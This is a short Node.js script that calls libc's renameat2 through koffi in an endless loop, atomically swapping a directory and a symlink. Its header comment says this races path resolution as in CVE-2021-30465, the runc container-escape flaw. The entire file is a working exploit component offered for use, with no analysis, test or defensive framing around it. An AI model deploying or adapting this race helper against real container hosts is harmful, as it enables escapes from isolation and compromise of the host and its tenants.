// Swaps two paths over and over with renameat2(RENAME_EXCHANGE), atomically, until
// killed: a directory and a symlink trade names, so that whoever resolves one of the
// names sees either at any moment (the CVE-2021-30465 race). Usage: swapper.mjs A B
import { createRequire } from 'node:module';

const require = createRequire(import.meta.url);
const koffi = require('koffi');
const libc = koffi.load('libc.so.6');
const renameat2 = libc.func('int renameat2(int olddirfd, const char *oldpath, int newdirfd, const char *newpath, unsigned int flags)');
const [a, b] = process.argv.slice(2);
const AT_FDCWD = -100;
const RENAME_EXCHANGE = 2;
if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) !== 0) {
  process.stderr.write(`renameat2 ${a} ${b}: errno ${koffi.errno()}\n`);
  process.exit(1);
}
process.stdout.write('swapping\n');
for (;;) renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
